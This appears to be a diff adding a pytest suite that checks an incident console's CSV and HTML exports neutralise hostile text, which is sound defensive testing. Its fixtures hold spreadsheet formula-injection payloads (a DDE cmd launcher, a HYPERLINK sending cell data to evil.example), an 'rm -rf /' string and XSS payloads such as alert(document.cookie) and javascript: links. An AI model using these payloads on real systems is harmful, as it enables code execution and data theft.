@@ -1,0 +1,212 @@
+"""CSV, Markdown and HTML exports: hostile text goes in, the same text comes out, inert.
+
+The CSV is made from a real incident's JSON export document and read back with Python's csv
+module; the HTML is read back with the standard library's HTML parser, which sees the page
+as a browser's tokenizer would.
+"""
+
+import csv
+import io
+from html.parser import HTMLParser
+
+import pytest
+
+from console import export, exports
+
+HOSTILE_NOTES = [
+    'db1, db2 and "db3" are down; failover | pending',
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
+    "+1 from Ben",
+    "-5% error rate after the rollback",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'quoted' from the vendor's status page",
+    "'=already prefixed",
+    "<script>alert('x')</script> `rm -rf /` ```code```",
+    "first line\nsecond line, with a comma\n\nfourth \"line\"",
+    "\u202egnp.exe \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (RTL)",
+    "tab\tinside | a | pipe | table |",
+]
+
+
+def read_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+@pytest.fixture
+def document(service, clock):
+    incident = service.declare("Checkout down, \"badly\"", by="Ana", severity=2).incident
+    ids = []
+    for note in HOSTILE_NOTES:
+        clock.advance(seconds=30)
+        ids.append(service.log(incident.id, note, by="=Eve, \"the scribe\"").entries[0].id)
+    clock.advance(seconds=30)
+    service.set_pin(incident.id, ids[0], True, by="Ana")
+    service.revise_entry(incident.id, ids[3], "+2 from Ben, corrected", by="Ana")
+    service.retract_entry(incident.id, ids[4], by="Ana", reason="wrong graph")
+    return export.to_document(service.read, incident.id)
+
+
+def test_the_timeline_csv_reads_back_through_pythons_csv_reader(document):
+    text = exports.timeline_csv(document)
+    rows = read_csv(text)
+    assert rows[0] == list(exports.TIMELINE_COLUMNS) == [
+        "occurred_at", "kind", "author", "text", "recorded_at", "pinned", "retracted"]
+    assert len(rows) == 1 + len(document["timeline"])
+    assert all(len(row) == 7 for row in rows)
+    by_id = {item["id"]: item for item in document["timeline"]}
+    notes = [row for row in rows[1:] if row[1] == "note"]
+    assert [exports.from_csv_cell(row[3]) for row in notes] == [
+        "+2 from Ben, corrected" if i == 3 else note for i, note in enumerate(HOSTILE_NOTES)
+    ]
+    for row, item in zip(rows[1:], document["timeline"], strict=True):
+        assert row[0] == item["occurred_at"] and row[4] == item["recorded_at"]
+        assert row[1] == item["kind"]
+        assert exports.from_csv_cell(row[2]) == item["author"]
+        assert row[5] == ("true" if by_id[item["id"]]["pinned"] else "false")
+        assert row[6] == ("true" if item["retracted"] else "false")
+    assert notes[0][5] == "true" and notes[4][6] == "true"
+
+
+def test_the_csv_is_rfc_4180(document):
+    text = exports.timeline_csv(document)
+    assert text.startswith('"occurred_at","kind","author","text",')
+    assert text.endswith("\r\n")
+    # Every record ends in CRLF; a line break inside a note stays inside its quotes.
+    assert text.count("\r\n") == 1 + len(document["timeline"])
+    assert '"db1, db2 and ""db3"" are down; failover | pending"' in text
+    text.encode("utf-8")  # no lone surrogates: writable as UTF-8
+
+
+def test_no_cell_starts_like_a_formula(document):
+    for row in read_csv(exports.timeline_csv(document)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert exports.to_csv_cell("=1+1") == "'=1+1"
+    assert exports.to_csv_cell("'=1+1") == "''=1+1"
+    assert exports.to_csv_cell("2026-03-29T14:00:00.000Z") == "2026-03-29T14:00:00.000Z"
+
+
+@pytest.mark.parametrize("value", [
+    "", "'", "''", "'a", "=", "'=", "-", "plain", "@x", "\tx", "a=b", "'''=x",
+])
+def test_the_formula_prefix_is_always_reversible(value):
+    assert exports.from_csv_cell(exports.to_csv_cell(value)) == value
+
+
+def test_markdown_passes_through_with_a_trailing_newline():
+    assert exports.postmortem_markdown("# INC-1\n\ntext") == "# INC-1\n\ntext\n"
+    assert exports.postmortem_markdown("# INC-1\n") == "# INC-1\n"
+    assert exports.postmortem_markdown("") == "\n"
+    assert exports.postmortem_markdown("a <b>\\* | x\n\n") == "a <b>\\* | x\n\n"
+
+
+class Page(HTMLParser):
+    """Every element and attribute of a page, and its text, as a browser would tokenize it."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+        self._in: list[str] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+        self._in.append(tag)
+
+    def handle_startendtag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag):
+        if tag in self._in:
+            del self._in[len(self._in) - 1 - self._in[::-1].index(tag):]
+
+    def handle_data(self, data):
+        self.text.append((self._in[-1] if self._in else "", data))
+
+    def names(self) -> list[str]:
+        return [tag for tag, _ in self.tags]
+
+    def text_in(self, tag: str) -> str:
+        return "".join(data for where, data in self.text if where == tag)
+
+
+HOSTILE_MARKDOWN = """\
+# Post-mortem: INC-7 <script>alert(1)</script>
+
+<script>alert(document.cookie)</script>
+
+<img src=x onerror="alert(1)">
+
+<div onclick="alert(1)">*click*</div>
+
+Inline <b onmouseover=alert(1)>bold</b> and <iframe src="https://evil.example"></iframe>.
+
+[a link](javascript:alert(1)) · [data](data:text/html;base64,PHNjcmlwdD4=) ·
+<javascript:alert(1)> · [fine](https://status.example.org/incidents/7 "status")
+
+![graph](https://grafana.example.org/render/d/abc.png "onerror=alert(1)")
+
+<style>body { display: none }</style>
+
+```html
+<script>alert("in a code block")</script>
+```
+
+## Timeline
+
+| Time (UTC) | Event | Data Link |
+|---|---|---|
+| 14:02 | Page sent <script>x()</script> | [graph](https://grafana.example.org/d/1) |
+| 14:10 | Rolled back `deploy 4121` \\| pipes | <a href="x" onclick="y">n/a</a> |
+"""
+
+
+def test_hostile_markdown_renders_no_script_and_no_event_handler():
+    page_text = exports.postmortem_html(HOSTILE_MARKDOWN, title="INC-7")
+    page = Page(page_text)
+    names = page.names()
+    assert not {"script", "iframe", "div", "b", "object", "embed"} & set(names)
+    # The one image is the Markdown image, whose "onerror" is only its title.
+    assert [a for t, a in page.tags if t == "img"] == [{
+        "src": "https://grafana.example.org/render/d/abc.png", "alt": "graph",
+        "title": "onerror=alert(1)"}]
+    assert names.count("style") == 1  # ours, in the head
+    for tag, attrs in page.tags:
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name)
+            if name in ("href", "src"):
+                assert value.startswith(("https:", "#")), (tag, name, value)
+    assert {"h1", "h2", "table", "thead", "tbody", "th", "td", "pre", "code", "a"} <= set(names)
+    # The typed markup is still there to read, as text.
+    body = "".join(data for _, data in page.text)
+    assert "<script>alert(document.cookie)</script>" in body
+    assert '<img src=x onerror="alert(1)">' in body
+    assert '<script>alert("in a code block")</script>' in page.text_in("code")
+
+
+def test_a_table_renders_as_a_table():
+    page = Page(exports.postmortem_html(HOSTILE_MARKDOWN, title="INC-7"))
+    headers = [data.strip() for where, data in page.text if where == "th" and data.strip()]
+    assert headers == ["Time (UTC)", "Event", "Data Link"]
+    assert page.names().count("tr") == 3
+    cells = page.text_in("td")
+    assert "Page sent <script>x()</script>" in cells
+    assert "| pipes" in cells
+
+
+def test_the_title_is_escaped_and_the_page_is_self_contained():
+    title = 'INC-7 </title><script>alert(1)</script> & "quotes"'
+    page_text = exports.postmortem_html("# x\n", title=title)
+    page = Page(page_text)
+    assert page.text_in("title") == title
+    assert "script" not in page.names()
+    assert page_text.startswith("<!DOCTYPE html>")
+    assert "@media print" in page.text_in("style")
+    csp = [a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv")]
+    assert csp == ["default-src 'none'; style-src 'unsafe-inline'; img-src https: data:"]
+    # Nothing is loaded from elsewhere but images the author linked.
+    assert not [t for t, a in page.tags if t == "link" or (t != "img" and "src" in a)]
+
